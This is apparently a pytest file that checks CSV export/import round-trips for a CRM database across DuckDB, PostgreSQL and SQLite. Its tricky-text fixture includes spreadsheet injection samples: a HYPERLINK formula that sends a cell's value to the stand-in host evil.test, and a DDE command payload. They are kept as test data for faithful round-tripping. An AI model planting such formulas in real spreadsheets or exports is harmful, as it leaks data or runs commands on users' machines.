"""export_bundle writes the bundle format; export -> import into an empty database -> identical tables."""

from __future__ import annotations

import csv
import importlib.util
from pathlib import Path

import pandas as pd
import pytest
import sqlalchemy as sa

from crm_data import schema
from crm_data.export import export_bundle
from crm_data.importing import import_paths
from crm_data.spreadsheet_safety import csv_text
from tests.crm_data.test_importing import snapshot, write_bundle

#: Every canonical table, with awkward values: quotes, commas and a line break in text,
#: unicode, sub-second timestamps, offsets, floats that need 17 digits, refunds, NULLs.
FULL_BUNDLE = {
    "users": """
        user_id,name,team,department,manager_id,region
        U1,Ann Lee,East,Sales,,EMEA
        U2,"Bob ""the builder"" Ruiz",East,Sales,U1,EMEA
        """,
    "products": """
        product_id,name,family,list_price
        P1,Widget,Core,99.9
        P2,Gadget,,0.30000000000000004
        """,
    "accounts": """
        account_id,name,segment,industry,company_size,region,country,city,acquisition_channel,owner_id,created_at
        A1,"Acme, Inc.",SMB,Retail,11-50,EMEA,DE,Köln,Referral,U1,2023-01-05T08:00:00Z
        A2,Globex,Enterprise,,,NA,US,,Web,U2,2023-02-01 10:15:30.250000
        """,
    "contacts": """
        contact_id,account_id,name,email,phone,role,created_at
        C1,A1,Zoë Ñandú,zoe@acme.test,+49 221 1,CEO,2023-01-06T00:00:00+01:00
        C2,,,,,,
        """,
    "subscriptions": """
        subscription_id,account_id,product_id,mrr,started_at,ended_at,end_reason
        S1,A1,P1,49.5,2023-01-05,2024-01-05,price
        S2,A2,P2,1200,2023-02-01,,
        """,
    "pipeline_stages": """
        stage,position,probability,is_closed,is_won
        Lead,1,0.1,false,false
        Closed Won,2,1,true,true
        Closed Lost,3,0,true,FALSE
        """,
    "deals": """
        deal_id,account_id,owner_id,product_id,name,amount,lead_source,created_at,closed_at,status,lost_reason
        D1,A1,U1,P1,First,1000.25,Web,2023-03-01,2023-04-01T12:00:00Z,won,
        D2,A2,U2,,Second,,Event,2023-05-01,,open,
        """,
    "deal_stage_history": """
        deal_id,stage,entered_at
        D1,Lead,2023-03-01
        D1,Closed Won,2023-04-01T12:00:00Z
        D2,Lead,2023-05-01T00:00:00.000001Z
        """,
    "tickets": """
        ticket_id,account_id,product_id,channel,category,priority,opened_at,first_response_at,resolved_at,contacts_until_resolved
        T1,A1,P1,email,defect,high,2023-06-01T09:00:00Z,2023-06-01T10:00:00Z,2023-06-02,1
        T2,A2,,,question,,2023-06-03,,,
        """,
    "interactions": """
        interaction_id,account_id,contact_id,user_id,channel,direction,occurred_at,deal_id,ticket_id,campaign_id
        I1,A1,C1,U1,email,outbound,2023-03-02T08:00:00Z,D1,,M1
        I2,,,,web,,2023-06-01,,T1,
        """,
    "survey_responses": """
        response_id,account_id,contact_id,survey,touchpoint,score,comment,responded_at,ticket_id
        R1,A1,C1,nps,support,9,"Fast, friendly
        and ""great"" indeed",2023-06-02,T1
        R2,A2,,ces,website_visit,6.5,,2023-07-01T00:00:00Z,
        """,
    "campaigns": """
        campaign_id,name,channel,objective,started_on,ended_on,cost
        M1,Spring,email,acquisition,2023-03-01,2023-03-31,1500
        M2,Loyal,,retention,,,
        """,
    "campaign_responses": """
        campaign_id,account_id,contact_id,sent_at,opened_at,clicked_at,converted_at
        M1,A1,C1,2023-03-01T09:00:00Z,2023-03-01T10:00:00Z,,
        M1,A2,,2023-03-01T09:00:00Z,,,
        M2,,,,,,
        """,
    "web_traffic": """
        date,source,sessions,pageviews,impressions,clicks,signups
        2023-03-01,google,100,250,5000,120,3
        2023-03-01,direct,40,,,,
        """,
    "social_media": """
        date,platform,followers,impressions,engagements,mentions
        2023-03-01,linkedin,1500,9000,300,4
        """,
    "payments": """
        payment_id,account_id,paid_at,amount
        Y1,A1,2023-01-05,49.5
        Y2,A1,2023-02-05,-49.5
        """,
    "costs": """
        cost_id,incurred_on,category,purpose,account_id,amount
        K1,2023-03-01,marketing,acquisition,,1500
        K2,2023-03-15,loyalty,retention,A1,25.75
        """,
    "exchange_rates": """
        currency,valid_from,rate_to_reporting
        PEN,1900-01-01,0.30000000000000004
        PEN,2023-06-01,0.25
        """,
}


def test_the_bundle_covers_every_table() -> None:
    assert set(FULL_BUNDLE) == set(schema.TABLE_NAMES)


@pytest.mark.parametrize("kind", ["duckdb", "postgresql", "sqlite"])
def test_export_then_import_gives_identical_tables(make_db, tmp_path: Path, kind: str) -> None:
    source = make_db(kind)
    assert import_paths(source, [write_bundle(tmp_path / "in", FULL_BUNDLE)]).ok

    counts = export_bundle(source, tmp_path / "out")
    assert counts == {name: len(rows) for name, rows in snapshot(source).items()}
    assert counts["campaign_responses"] == 3 and counts["deal_stage_history"] == 3

    target = make_db(kind, create=False)
    report = import_paths(target, [tmp_path / "out"])
    assert report.ok, report.render()
    assert report.warnings == []
    assert snapshot(target) == snapshot(source)
    # exporting the copy gives the same files, byte for byte
    export_bundle(target, tmp_path / "again")
    for name in schema.TABLE_NAMES:
        assert (tmp_path / "again" / f"{name}.csv").read_bytes() == (
            tmp_path / "out" / f"{name}.csv"
        ).read_bytes()


def test_exported_values_are_in_the_bundle_format(make_db, tmp_path: Path) -> None:
    engine = make_db("duckdb")
    assert import_paths(engine, [write_bundle(tmp_path / "in", FULL_BUNDLE)]).ok
    export_bundle(engine, tmp_path / "out")
    out = tmp_path / "out"
    assert (out / "accounts.csv").read_text().splitlines() == [
        "account_id,name,segment,industry,company_size,region,country,city,acquisition_channel,owner_id,created_at",
        'A1,"Acme, Inc.",SMB,Retail,11-50,EMEA,DE,Köln,Referral,U1,2023-01-05T08:00:00Z',
        "A2,Globex,Enterprise,,,NA,US,,Web,U2,2023-02-01T10:15:30.250000Z",
    ]
    assert (out / "pipeline_stages.csv").read_text().splitlines()[1:] == [
        "Closed Lost,3,0.0,true,false",
        "Closed Won,2,1.0,true,true",
        "Lead,1,0.1,false,false",
    ]
    assert (out / "contacts.csv").read_text().splitlines()[1] == (
        "C1,A1,Zoë Ñandú,zoe@acme.test,+49 221 1,CEO,2023-01-05T23:00:00Z"  # +01:00 -> UTC
    )
    assert (out / "web_traffic.csv").read_text().splitlines()[1:] == [
        "2023-03-01,direct,40,,,,",
        "2023-03-01,google,100,250,5000,120,3",
    ]
    assert (out / "products.csv").read_text().splitlines()[2] == "P2,Gadget,,0.30000000000000004"
    assert (out / "users.csv").read_text().splitlines()[
        2
    ] == 'U2,"Bob ""the builder"" Ruiz",East,Sales,U1,EMEA'


def test_empty_database_exports_headers_only(make_db, tmp_path: Path) -> None:
    engine = make_db("sqlite")
    counts = export_bundle(engine, tmp_path / "out")
    assert set(counts) == set(schema.TABLE_NAMES) and not any(counts.values())
    assert (
        tmp_path / "out" / "payments.csv"
    ).read_text() == "payment_id,account_id,paid_at,amount,amount_original,currency\n"


@pytest.mark.skipif(
    importlib.util.find_spec("crm_data.demo") is None, reason="crm_data.demo not available yet"
)
@pytest.mark.parametrize("kind", ["duckdb", "postgresql"])
def test_demo_data_round_trip(make_db, tmp_path: Path, kind: str) -> None:
    from crm_data.demo import generate

    source = make_db(kind)
    generate(source, accounts=150, progress=False)
    counts = export_bundle(source, tmp_path / "out")
    # every table but exchange_rates: the demo's amounts are in the reporting currency
    assert all(counts[name] > 0 for name in schema.TABLE_NAMES if name != "exchange_rates"), counts

    target = make_db(kind, create=False)
    report = import_paths(target, [tmp_path / "out"])
    assert report.ok, report.render()
    assert report.rows == {name: counts[name] for name in schema.TABLE_NAMES if name in report.rows}
    assert snapshot(target) == snapshot(source)


#: Text that must survive export -> import unchanged: line breaks of every kind (a bare
#: carriage return too), quotes, commas, blanks around the text, unicode and formula-like
#: text (a bundle is data: it is never neutralised). The survey comments also hold
#: PostgreSQL's COPY null marker ``\\N`` (which sends that table down the import's row-by-row
#: path on PostgreSQL; the other tables take COPY).
TRICKY_TEXT = [
    "carriage\rreturn",
    "line\nfeed",
    "windows\r\nline",
    "\rleading carriage return",
    "trailing carriage return\r",
    "two\n\nbreaks\r\r",
    'say "hi"',
    '"all quoted"',
    "comma, separated",
    "  blanks around  ",
    " leading blank",
    "trailing blank ",
    "Zoë Ñandú · 東京 · 🚀",
    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-5 days",
    "\t=1+1",
    "'already quoted",
]


COMMENTS = [*TRICKY_TEXT, "\\N"]


def _tricky_bundle(folder: Path) -> Path:
    """Accounts, deals and survey comments holding :data:`TRICKY_TEXT`, written with every
    field quoted (so the input itself has no bare carriage return)."""
    folder.mkdir(parents=True)
    tables = {
        "accounts": (
            ["account_id", "name", "city", "created_at"],
            [[f"A{i}", text, text, "2024-01-01T00:00:00Z"] for i, text in enumerate(TRICKY_TEXT)],
        ),
        "deals": (
            ["deal_id", "account_id", "name", "amount", "created_at", "status"],
            [[f"D{i}", f"A{i}", text, "5", "2024-02-01", "open"] for i, text in enumerate(TRICKY_TEXT)],
        ),
        "survey_responses": (
            ["response_id", "account_id", "survey", "score", "comment", "responded_at"],
            [[f"R{i}", "A0", "nps", "9", text, "2024-03-01"] for i, text in enumerate(COMMENTS)],
        ),
    }
    for name, (header, rows) in tables.items():
        with open(folder / f"{name}.csv", "w", encoding="utf-8", newline="") as out:
            writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
            writer.writerow(header)
            writer.writerows(rows)
    return folder


def _texts(engine: sa.Engine, table: sa.Table, column: str) -> list[str]:
    key = next(iter(table.primary_key.columns))
    with engine.connect() as conn:
        rows = conn.execute(sa.select(key, table.c[column])).all()
    return [text for _, text in sorted(rows, key=lambda row: int(row[0][1:]))]


@pytest.mark.parametrize("kind", ["duckdb", "postgresql", "sqlite"])
def test_tricky_text_survives_export_and_import(make_db, tmp_path: Path, kind: str) -> None:
    source = make_db(kind)
    report = import_paths(source, [_tricky_bundle(tmp_path / "in")])
    assert report.ok, report.render()
    assert _texts(source, schema.accounts, "name") == TRICKY_TEXT

    export_bundle(source, tmp_path / "out")
    for name in ("accounts", "deals", "survey_responses"):
        with open(tmp_path / "out" / f"{name}.csv", encoding="utf-8", newline="") as file:
            rows = list(csv.reader(file))
        assert len(rows) == len(COMMENTS if name == "survey_responses" else TRICKY_TEXT) + 1, name
        assert {len(row) for row in rows} == {len(rows[0])}, name
    text = (tmp_path / "out" / "accounts.csv").read_bytes().decode("utf-8")
    assert '\nA0,"carriage\rreturn",' in text  # quoted, not bare
    formula, days = TRICKY_TEXT.index("@SUM(1+1)"), TRICKY_TEXT.index("-5 days")
    assert f"\nA{formula},@SUM(1+1)," in text and f"\nA{days},-5 days," in text  # exact, not neutralised

    target = make_db(kind, create=False)
    report = import_paths(target, [tmp_path / "out"])
    assert report.ok, report.render()
    assert snapshot(target) == snapshot(source)
    assert _texts(target, schema.accounts, "name") == TRICKY_TEXT
    assert _texts(target, schema.accounts, "city") == TRICKY_TEXT
    assert _texts(target, schema.deals, "name") == TRICKY_TEXT
    assert _texts(target, schema.survey_responses, "comment") == COMMENTS


def test_csv_text_quotes_carriage_returns_and_otherwise_is_pandas_output() -> None:
    plain = pd.DataFrame({"a": ["x", 'q"q', "c,d", "l\nf", None], "b": ["1", "2", "3", "4", "5"]})
    assert csv_text(plain) == plain.to_csv(index=False, lineterminator="\n")
    tricky = pd.DataFrame({"a": ["x\ry", "x\r\ny", "\r", None, 'q"\r'], "b": ["1", "2", "3", "4", "5"]})
    assert csv_text(tricky, header=False, na_rep="NULL") == (
        '"x\ry",1\n"x\r\ny",2\n"\r",3\nNULL,4\n"q""\r",5\n'
    )
    # a one-column row holding an empty text stays a row
    assert csv_text(pd.DataFrame({"a": ["\r", ""]})) == 'a\n"\r"\n""\n'
